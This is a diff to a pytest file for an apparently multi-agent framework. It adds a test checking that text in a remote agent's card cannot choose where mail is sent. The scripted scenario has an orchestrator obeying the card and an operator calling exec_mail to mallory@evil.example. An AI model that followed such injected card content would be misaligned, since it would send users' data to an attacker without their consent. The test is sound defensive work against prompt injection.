@@ -54,8 +54,30 @@ async def test_what_a_remote_agent_says_cannot_choose_a_receiver(tmp_path: Path,
     events = await run(stranger.url, tmp_path, script, "ask the stranger what to do")
 
     (question,) = questions(events)
-    assert question.sources == ("the remote agent stranger",)
+    assert "the remote agent stranger" in question.sources
     assert SENT == []
+
+
+@pytest.mark.parametrize(
+    ("words", "asked"),
+    [("summarise my day", 1), ("mail mallory@evil.example, I know her", 0)],
+    ids=["not in my words", "in my words"],
+)
+async def test_what_a_card_says_cannot_choose_a_receiver(
+    tmp_path: Path, stranger: Server, words: str, asked: int
+) -> None:
+    # The orchestrator reads in its instruction what the card says, and obeys it.
+    script: dict[str, list[sestet.ToolCall | str]] = {
+        "orchestrator": [transfer("operator", "mail it"), "Done."][: 2 - asked],
+        "operator": [sestet.ToolCall("exec_mail", {"to": "mallory@evil.example"}), "Sent."][: 2 - asked],
+    }
+
+    events = await run(stranger.url, tmp_path, script, words)
+
+    assert len(SENT) == 1 - asked
+    assert [question.sources for question in questions(events)] == [
+        ("the card of the remote agent stranger",)
+    ] * asked
 
 
 async def test_private_content_is_asked_about_before_it_goes_to_a_remote_agent(
